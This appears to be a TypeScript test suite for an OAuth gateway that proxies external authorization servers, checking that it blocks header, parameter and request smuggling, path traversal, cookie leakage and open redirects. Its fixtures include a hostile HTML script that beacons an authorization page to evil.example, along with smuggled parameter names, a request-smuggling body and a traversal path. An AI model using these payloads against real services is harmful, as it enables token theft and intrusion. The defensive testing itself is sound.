import { expect } from 'chai';
import { freePort, RunningGateway, startGateway } from '../../support/gateway';
import { basic, expectOAuthError, postForm, rawRequest, request } from '../../support/http';
import { FakeServer, startFakeServer } from '../helpers/fake-server';

const rawPost = (url: string, body: string, headers: Record<string, string>) => rawRequest('POST', url, body, headers);

const HOSTILE_PAGE =
  '<!doctype html><script>fetch("/oauth2/authorize").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example", t))</script>';

/** Each Content-Security-Policy the answer carries (a browser enforces all of them). */
const policiesOf = (headers: Headers) =>
  (headers.get('content-security-policy') ?? '').split(',').map((policy) => policy.trim());

/**
 * The front proxy: a registered server's endpoints through the gateway at
 * /oauth2/servers/<name>/..., against a small upstream OAuth server.
 */
describe('front proxy of external authorization servers', function () {
  let gateway: RunningGateway;
  let upstream: FakeServer;
  let deadPort: number;
  const base = () => `${gateway.url}/oauth2/servers`;

  function register(entry: Record<string, unknown>) {
    return request(`${gateway.adminUrl}/oauth2/servers`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(entry)
    });
  }

  const strategy = {
    name: 'jwt',
    jwt: {
      issuer: 'https://up.example',
      audience: 'api',
      keys: { secret: 'an HS256 secret of more than thirty-two bytes' }
    }
  };

  before(async function () {
    upstream = await startFakeServer((req): ReturnType<FakeServer['handler']> => {
      if (req.url.startsWith('/token') && req.body.includes('grant_type=password')) {
        return {
          status: 400,
          body: { error: 'invalid_grant', error_description: 'The upstream says: wrong password' },
          headers: { 'X-Upstream': 'yes' }
        };
      }
      if (req.url.startsWith('/slow')) return { hang: true };
      if (req.url.startsWith('/cookies')) {
        return {
          headers: {
            'Set-Cookie': ['oauth2.sid=planted; Path=/oauth2', 'up=1; Domain=gateway.example; Path=/; HttpOnly']
          }
        };
      }
      if (req.url.startsWith('/authorize'))
        return { status: 302, headers: { Location: 'https://client.example/cb?code=up-code&state=s1' } };
      if (req.url.startsWith('/page')) {
        // A hostile upstream: HTML with a script from any endpoint, its own lenient policy, and a header that would act
        // on the whole origin.
        return {
          body: HOSTILE_PAGE,
          headers: {
            'Content-Type': 'text/html',
            'Content-Security-Policy': "script-src 'unsafe-inline'",
            'Clear-Site-Data': '"cookies"',
            'Strict-Transport-Security': 'max-age=31536000',
            'Alt-Svc': 'h2=":443"'
          }
        };
      }
      return {
        body: { access_token: 'upstream-token', token_type: 'Bearer', expires_in: 60 },
        headers: { 'Cache-Control': 'no-store', Connection: 'X-Hop', 'X-Hop': 'only for this hop', 'X-Upstream': 'yes' }
      };
    });
    deadPort = await freePort();
    gateway = await startGateway();
    const endpoints = {
      token: { url: `${upstream.url}/token` },
      authorize: { url: `${upstream.url}/authorize?tenant=t1` },
      introspection: { url: `${upstream.url}/introspect` },
      revoke: { url: `${upstream.url}/revoke` },
      createClient: { url: `${upstream.url}/clients` },
      removeClient: { url: `${upstream.url}/clients` }
    };
    const hostile = `${upstream.url}/page`;
    const entries = [
      {
        name: 'upstream',
        endpoints,
        allowedGrants: ['client_credentials', 'password'],
        allowedResponseTypes: ['code'],
        loginRedirect: 'https://up.example/login',
        secrets: { 'known-client': 'known client secret' },
        tokenStrategy: strategy
      },
      { name: 'open', endpoints: { token: { url: `${upstream.url}/token` } }, tokenStrategy: strategy },
      {
        name: 'lenient',
        endpoints: { token: endpoints.token, authorize: endpoints.authorize, introspection: endpoints.introspection },
        secrets: { 'known-client': 'known client secret' },
        tokenStrategy: strategy
      },
      {
        name: 'hostile',
        tokenStrategy: strategy,
        endpoints: {
          token: { url: hostile },
          introspection: { url: hostile },
          revoke: { url: hostile },
          createClient: { url: hostile },
          removeClient: { url: hostile }
        }
      },
      { name: 'down', endpoints: { token: { url: `http://127.0.0.1:${deadPort}/token` } }, tokenStrategy: strategy },
      { name: 'cookies', endpoints: { token: { url: `${upstream.url}/cookies` } }, tokenStrategy: strategy },
      { name: 'slow', endpoints: { token: { url: `${upstream.url}/slow`, timeout: 300 } }, tokenStrategy: strategy }
    ];
    for (const entry of entries) expect((await register(entry)).status).to.equal(201);
  });
  after(async function () {
    await gateway?.stop();
    await upstream?.close();
  });
  beforeEach(function () {
    upstream.received.length = 0;
  });

  it('passes a token request through and the answer back, without hop-by-hop headers either way', async function () {
    // fetch will not send a Connection header: plain http does.
    const res = await rawPost(`${base()}/upstream/token`, 'grant_type=client_credentials&scope=a+b', {
      Authorization: basic('my-client', 'my-secret'),
      Connection: 'keep-alive, X-Client-Hop',
      'X-Client-Hop': 'secret hop',
      'Proxy-Authorization': 'Basic eA==',
      'X-Other': 'kept'
    });
    expect(res.status, res.body).to.equal(200);
    expect(JSON.parse(res.body).access_token).to.equal('upstream-token');
    expect(res.headers['x-upstream']).to.equal('yes');
    expect(res.headers['cache-control']).to.equal('no-store');
    expect(res.headers['x-hop'], "named in the upstream's Connection header").to.equal(undefined);
    const sent = upstream.received[0];
    expect(sent.method).to.equal('POST');
    expect(sent.body).to.equal('grant_type=client_credentials&scope=a+b');
    expect(sent.headers.authorization).to.equal(basic('my-client', 'my-secret'));
    expect(sent.headers['x-other']).to.equal('kept');
    expect(sent.headers['x-client-hop']).to.equal(undefined);
    expect(sent.headers['proxy-authorization']).to.equal(undefined);
    expect(sent.headers.host).to.equal(new URL(upstream.url).host);
  });

  it('passes an upstream error through unchanged', async function () {
    const res = await postForm(
      `${base()}/upstream/token`,
      { grant_type: 'password', username: 'u', password: 'p' },
      { Authorization: basic('c', 's') }
    );
    expect(res.status).to.equal(400);
    expect(res.json).to.deep.equal({ error: 'invalid_grant', error_description: 'The upstream says: wrong password' });
    expect(res.headers.get('x-upstream')).to.equal('yes');
  });

  it('refuses a grant or response type the entry does not allow, before any upstream call', async function () {
    expectOAuthError(
      await postForm(`${base()}/upstream/token`, { grant_type: 'authorization_code', code: 'c' }),
      400,
      'unsupported_grant_type',
      /not allowed for upstream/
    );
    expectOAuthError(
      await postForm(`${base()}/upstream/token`, { scope: 'x' }),
      400,
      'invalid_request',
      /grant_type parameter is required/
    );
    expectOAuthError(
      await request(`${base()}/upstream/authorize?response_type=token&client_id=c`),
      400,
      'unsupported_response_type',
      /not allowed/
    );
    expect(upstream.received).to.have.length(0);
    const open = await postForm(`${base()}/open/token`, { grant_type: 'authorization_code', code: 'c' });
    expect(open.status, 'an entry without allowedGrants lets every grant through').to.equal(200);
  });

  it("sends the browser to the upstream's own authorization endpoint, after its own checks, with the query as it read it", async function () {
    const got = await request(
      `${base()}/upstream/authorize?response_type=code&client_id=c&state=s%201&scope=a%20b&x=%7e`
    );
    expect(got.status, got.text).to.equal(302);
    expect(got.headers.get('location')).to.equal(
      `${upstream.url}/authorize?tenant=t1&response_type=code&client_id=c&state=s+1&scope=a+b&x=%7E`
    );
    expect(got.headers.get('cache-control')).to.equal('no-store');
    // 307: the browser posts the same form to the upstream's origin; the query is re-serialised as for GET.
    const posted = await postForm(`${base()}/upstream/authorize?state=s1`, {
      response_type: 'code',
      client_id: 'c',
      scope: 'a b'
    });
    expect(posted.status, posted.text).to.equal(307);
    expect(posted.headers.get('location')).to.equal(`${upstream.url}/authorize?tenant=t1&state=s1`);
    expectOAuthError(
      await postForm(`${base()}/upstream/authorize`, { response_type: 'token', client_id: 'c' }),
      400,
      'unsupported_response_type',
      /not allowed/
    );
    expectOAuthError(
      await request(`${base()}/upstream/authorize?response_type=code&tenant=t2`),
      400,
      'invalid_request',
      /'tenant' is set by the gateway/
    );
    expect(upstream.received, "no upstream page is served on the gateway's origin").to.have.length(0);
  });

  it('refuses a posted authorization request that a browser would not have encoded so, as the browser re-posts it unchanged', async function () {
    // The gateway cannot rewrite what the browser sends on after a 307: it admits only the encoding every form parser
    // reads alike.
    for (const body of [
      'response_type=code&scope=a%20b',
      'response_type=code;response_type=token',
      'response%5Ftype=code'
    ]) {
      expectOAuthError(await postForm(`${base()}/lenient/authorize`, body), 400, 'invalid_request', /encoded/);
    }
    expect(upstream.received).to.have.length(0);
  });

  it('in sandbox mode, proxies the authorization page under a sandbox policy, so that its scripts get an opaque origin', async function () {
    const entry = {
      name: 'private',
      browserEndpoints: 'sandbox',
      endpoints: { authorize: { url: `${upstream.url}/page?tenant=t1` } },
      tokenStrategy: strategy
    };
    const created = await register(entry);
    expect(created.status, created.text).to.equal(201);
    expect(created.json.browserEndpoints).to.equal('sandbox');
    const res = await request(`${base()}/private/authorize?response_type=code&client_id=c&scope=a%20b`);
    expect(res.status).to.equal(200);
    expect(res.text).to.equal(HOSTILE_PAGE);
    expect(policiesOf(res.headers)).to.include('sandbox allow-forms allow-scripts');
    expect(res.headers.get('content-security-policy')).not.to.contain('allow-same-origin');
    expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
    expect(upstream.received[0].url).to.equal('/page?tenant=t1&response_type=code&client_id=c&scope=a+b');
    const posted = await postForm(`${base()}/private/authorize`, 'response_type=code&scope=a%20b');
    expect(posted.status, 'a posted form is forwarded, re-serialised').to.equal(200);
    expect(upstream.received[1].body).to.equal('response_type=code&scope=a+b');
  });

  it('answers every proxied page or API answer with a sandbox policy and nosniff, whatever the upstream sent', async function () {
    const answers = [
      await request(`${base()}/hostile/token?grant_type=client_credentials`),
      await postForm(`${base()}/hostile/token`, { grant_type: 'client_credentials' }),
      await postForm(`${base()}/hostile/introspect`, { token: 't' }),
      await postForm(`${base()}/hostile/revoke`, { token: 't' }),
      await request(`${base()}/hostile/clients`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: '{}'
      }),
      await request(`${base()}/hostile/clients/c1`, { method: 'DELETE' })
    ];
    for (const res of answers) {
      expect(res.text).to.equal(HOSTILE_PAGE);
      expect(policiesOf(res.headers), "the upstream's own policy stays, ours is added").to.deep.equal([
        "script-src 'unsafe-inline'",
        'sandbox'
      ]);
      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
      expect(res.headers.get('clear-site-data'), "an upstream cannot clear the gateway origin's cookies").to.equal(
        null
      );
      expect(res.headers.get('strict-transport-security'), 'nor pin the gateway origin to HTTPS').to.equal(null);
      expect(res.headers.get('alt-svc'), 'nor move it to another service').to.equal(null);
    }
  });

  it('adds a registered secret only for the code, refresh token and device code grants, for a client that sends only its client_id', async function () {
    // RFC 6749 §2.3.1: form-encoded first, so spaces are '+'.
    const added = `Basic ${Buffer.from('known-client:known+client+secret').toString('base64')}`;
    const proven = ['authorization_code', 'refresh_token', 'urn:ietf:params:oauth:grant-type:device_code'];
    for (const grant of proven) {
      upstream.received.length = 0;
      await postForm(`${base()}/lenient/token`, { grant_type: grant, code: 'c', client_id: 'known-client' });
      expect(upstream.received[0].headers.authorization, grant).to.equal(added);
      expect(upstream.received[0].body, 'one authentication method only').to.equal(
        `grant_type=${encodeURIComponent(grant)}&code=c`
      );
    }
    // The secret would be the only proof of these: whoever knows the client_id would get the client's tokens.
    const unproven = [
      'client_credentials',
      'password',
      'urn:ietf:params:oauth:grant-type:jwt-bearer',
      'urn:ietf:params:oauth:grant-type:saml2-bearer',
      'urn:example:unknown',
      ''
    ];
    for (const grant of unproven) {
      upstream.received.length = 0;
      await postForm(
        `${base()}/lenient/token`,
        grant ? { grant_type: grant, client_id: 'known-client' } : { client_id: 'known-client' }
      );
      expect(upstream.received[0].headers.authorization, grant || 'no grant_type').to.equal(undefined);
      expect(upstream.received[0].body).to.contain('client_id=known-client');
    }
    upstream.received.length = 0;
    await postForm(`${base()}/lenient/introspect`, { token: 't', client_id: 'known-client' });
    expect(upstream.received[0].headers.authorization, 'only at the token endpoint').to.equal(undefined);
    await postForm(`${base()}/lenient/token`, {
      grant_type: 'refresh_token',
      refresh_token: 'r',
      client_id: 'unknown-client'
    });
    expect(upstream.received[1].headers.authorization).to.equal(undefined);
    expect(upstream.received[1].body).to.contain('client_id=unknown-client');
    await postForm(`${base()}/lenient/token`, {
      grant_type: 'refresh_token',
      refresh_token: 'r',
      client_id: 'known-client',
      client_secret: 'its own'
    });
    expect(upstream.received[2].headers.authorization, 'a client that authenticates itself is left alone').to.equal(
      undefined
    );
  });

  it('refuses parameter names that another server could read as an OAuth parameter, in the body and in the query', async function () {
    // A PHP upstream reads grant.type, grant type and grant[type] as grant_type: the gateway would have checked one
    // grant and the upstream used another.
    const smuggled = ['grant.type', 'grant type', 'grant[type]', 'grant_type[]', 'grant%5Btype%5D', 'grant_type%00'];
    for (const name of smuggled) {
      const body = `grant_type=refresh_token&refresh_token=r&client_id=known-client&${name.replace(/ /g, '+')}=client_credentials`;
      expectOAuthError(await postForm(`${base()}/lenient/token`, body), 400, 'invalid_request', /parameter name/);
      expectOAuthError(
        await postForm(`${base()}/upstream/token?${name}=password`, 'grant_type=client_credentials'),
        400,
        'invalid_request',
        /parameter name/
      );
    }
    expectOAuthError(
      await request(`${base()}/lenient/authorize?response_type=code&response.type=token`),
      400,
      'invalid_request',
      /parameter name/
    );
    expectOAuthError(
      await postForm(`${base()}/lenient/introspect`, 'token=t&=x'),
      400,
      'invalid_request',
      /parameter name/
    );
    expect(upstream.received).to.have.length(0);
  });

  it('forwards the form and the query as it read them, re-serialised, whatever encoding the client used', async function () {
    const res = await rawPost(
      `${base()}/lenient/token?a=%7e&b=x%20y`,
      'grant_type=client_credentials;grant_type=password&scope=a%20b&x=%7e',
      {
        'Content-Type': 'application/x-www-form-urlencoded; charset=ISO-8859-1'
      }
    );
    expect(res.status, res.body).to.equal(200);
    const sent = upstream.received[0];
    expect(sent.url).to.equal('/token?a=%7E&b=x+y');
    // A server that splits on ';' reads the same single grant_type as the gateway did.
    expect(sent.body).to.equal('grant_type=client_credentials%3Bgrant_type%3Dpassword&scope=a+b&x=%7E');
    expect(sent.headers['content-type']).to.equal('application/x-www-form-urlencoded');
    expect(sent.headers['content-length']).to.equal(String(sent.body.length));
  });

  it('refuses a body it cannot read as a form at the token and authorization endpoints, whatever the entry allows', async function () {
    const json = { 'Content-Type': 'application/json' };
    expectOAuthError(
      await request(`${base()}/lenient/token`, {
        method: 'POST',
        headers: json,
        body: '{"grant_type":"client_credentials"}'
      }),
      400,
      'invalid_request',
      /must be application\/x-www-form-urlencoded/
    );
    expectOAuthError(
      await request(`${base()}/lenient/authorize`, {
        method: 'POST',
        headers: json,
        body: '{"response_type":"token"}'
      }),
      400,
      'invalid_request',
      /must be application\/x-www-form-urlencoded/
    );
    const gzipped = await rawPost(`${base()}/lenient/token`, 'grant_type=client_credentials', {
      'Content-Encoding': 'gzip'
    });
    expect(gzipped.status, gzipped.body).to.equal(400);
    expect(JSON.parse(gzipped.body)).to.include({ error: 'invalid_request' });
    const withBody = await rawRequest(
      'GET',
      `${base()}/lenient/token?grant_type=client_credentials`,
      'grant_type=password',
      { 'Content-Length': '19' }
    );
    expect(withBody.status, withBody.body).to.equal(400);
    expect(JSON.parse(withBody.body).error_description).to.match(/GET request has no body/);
    expect(upstream.received).to.have.length(0);
  });

  it('checks the grant across query and body, and only bodies it can read', async function () {
    const mixed = await postForm(`${base()}/upstream/token?grant_type=authorization_code`, {
      grant_type: 'client_credentials'
    });
    expectOAuthError(mixed, 400, 'invalid_request', /'grant_type' is repeated/);
    const json = await request(`${base()}/upstream/token`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: '{"grant_type":"authorization_code"}'
    });
    expectOAuthError(json, 400, 'invalid_request', /must be application\/x-www-form-urlencoded/);
    expect(upstream.received).to.have.length(0);
  });

  it('frames every body it sends upstream by its length, so nothing can ride along as a second request', async function () {
    const smuggled = 'GET /evil HTTP/1.1\r\nHost: x\r\n\r\n';
    const res = await rawRequest('DELETE', `${base()}/upstream/clients/abc`, smuggled, {
      'Transfer-Encoding': 'chunked',
      'Content-Type': 'text/plain'
    });
    expect(res.status).to.equal(200);
    await new Promise((r) => setTimeout(r, 100));
    expect(upstream.received.map((r) => r.url)).to.deep.equal(['/clients/abc']);
    expect(upstream.received[0].body).to.equal(smuggled);
    expect(upstream.received[0].headers['content-length']).to.equal(String(smuggled.length));
    const named = await rawRequest('POST', `${base()}/upstream/introspect`, 'token=t', {
      Connection: 'content-length, authorization',
      Authorization: basic('c', 's')
    });
    expect(named.status).to.equal(200);
    expect(upstream.received[1].headers['content-length'], 'a Connection header cannot strip the framing').to.equal(
      '7'
    );
    expect(upstream.received[1].headers.authorization).to.equal(basic('c', 's'));
  });

  it('refuses a client id that URL parsing would turn into another path', async function () {
    // fetch would resolve the dots itself, as the gateway's URL parser would have without the check.
    const res = await rawRequest('DELETE', `${base()}/upstream/clients/%2e%2e`, '', {});
    expect(res.status, res.body).to.equal(400);
    expect(JSON.parse(res.body).error_description).to.match(/not usable in a path/);
    expect(upstream.received).to.have.length(0);
  });

  it("stores the upstream's cookies under names of their own server, confined to its path", async function () {
    const res = await request(`${base()}/cookies/token`, { method: 'POST' });
    // The planted session cookie is harmless once renamed: the browser keeps it apart from the gateway's own.
    expect(res.headers.getSetCookie()).to.deep.equal([
      'proxied~cookies~oauth2.sid=planted; Path=/oauth2/servers/cookies/',
      'proxied~cookies~up=1; HttpOnly; Path=/oauth2/servers/cookies/'
    ]);
  });

  it("sends an upstream only the cookies it set itself, under their own names, never the origin's others", async function () {
    const cookie =
      'oauth2.sid=gateway-session; app-cookie=1; proxied~upstream~mine=2; proxied~open~theirs=3; proxied~upstream.x~other=4; proxied~upstream~more=a=b';
    await postForm(`${base()}/upstream/introspect`, { token: 't' }, { Cookie: cookie });
    expect(upstream.received[0].headers.cookie).to.equal('mine=2; more=a=b');
    await postForm(
      `${base()}/upstream/introspect`,
      { token: 't' },
      { Cookie: 'oauth2.sid=gateway-session; app-cookie=1' }
    );
    expect(upstream.received[1].headers.cookie).to.equal(undefined);
  });

  it('reaches the client create and remove endpoints and redirects to the login page', async function () {
    const created = await request(`${base()}/upstream/clients`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: '{"client_name":"x"}'
    });
    expect(created.status).to.equal(200);
    expect(upstream.received[0]).to.include({ method: 'POST', url: '/clients', body: '{"client_name":"x"}' });
    await request(`${base()}/upstream/clients/client%201`, { method: 'DELETE' });
    expect(upstream.received[1]).to.include({ method: 'DELETE', url: '/clients/client%201' });
    const login = await request(`${base()}/upstream/login?return_to=https%3A%2F%2Fevil.example`, {
      redirect: 'manual'
    });
    expect(login.status).to.equal(302);
    expect(login.headers.get('location'), 'the query is not carried over (no open redirect)').to.equal(
      'https://up.example/login'
    );
  });

  it('answers 503 temporarily_unavailable when the upstream cannot be reached', async function () {
    expectOAuthError(
      await postForm(`${base()}/down/token`, { grant_type: 'client_credentials' }),
      503,
      'temporarily_unavailable',
      /cannot be reached/
    );
  });

  it('answers 504 temporarily_unavailable when the upstream does not answer in time', async function () {
    const started = Date.now();
    const res = await postForm(`${base()}/slow/token`, { grant_type: 'client_credentials' });
    expectOAuthError(res, 504, 'temporarily_unavailable', /did not answer within 300 ms/);
    expect(Date.now() - started).to.be.below(5000);
  });

  it('answers 404 for an unknown server or an endpoint the entry lacks', async function () {
    expect((await postForm(`${base()}/nobody/token`, { grant_type: 'client_credentials' })).status).to.equal(404);
    expect((await postForm(`${base()}/open/revoke`, { token: 't' })).status).to.equal(404);
    expect((await postForm(`${base()}/bad%20name/token`, { grant_type: 'client_credentials' })).status).to.equal(404);
  });

  it('follows an entry changed over the admin API at the next request', async function () {
    const shown = (await request(`${gateway.adminUrl}/oauth2/servers/open`)).json;
    const changed = await request(`${gateway.adminUrl}/oauth2/servers/open`, {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ ...shown, allowedGrants: ['client_credentials'] })
    });
    expect(changed.status, changed.text).to.equal(200);
    expect((await postForm(`${base()}/open/token`, { grant_type: 'authorization_code', code: 'c' })).status).to.equal(
      400
    );
  });

  it('refuses an oversized or repeated-parameter body with invalid_request, not a 500', async function () {
    expectOAuthError(
      await postForm(`${base()}/upstream/token`, `grant_type=client_credentials&x=${'a'.repeat(40000)}`),
      400,
      'invalid_request',
      /too large/
    );
    expectOAuthError(
      await postForm(`${base()}/upstream/token`, 'grant_type=client_credentials&grant_type=password'),
      400,
      'invalid_request',
      /repeated/
    );
    expect(upstream.received).to.have.length(0);
  });
});
